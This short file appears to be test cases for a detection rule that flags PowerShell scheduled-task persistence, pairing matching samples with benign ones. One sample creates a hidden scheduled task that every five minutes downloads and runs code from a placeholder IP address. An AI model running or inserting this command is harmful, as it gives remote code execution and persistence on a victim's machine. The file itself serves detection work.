# Scheduled tasks.
# ruleid: powershell.persist.scheduled_task
Register-ScheduledTask -TaskName "Updater" -Trigger $trigger -Action $action
# ruleid: powershell.persist.scheduled_task
schtasks /create /sc minute /mo 5 /tn "upd" /tr "powershell -w hidden -c iex(iwr http://203.0.113.3/a)"
# ok: powershell.persist.scheduled_task
Get-ScheduledTask | Where-Object State -eq Ready
# ok: powershell.persist.scheduled_task
schtasks /query /fo LIST
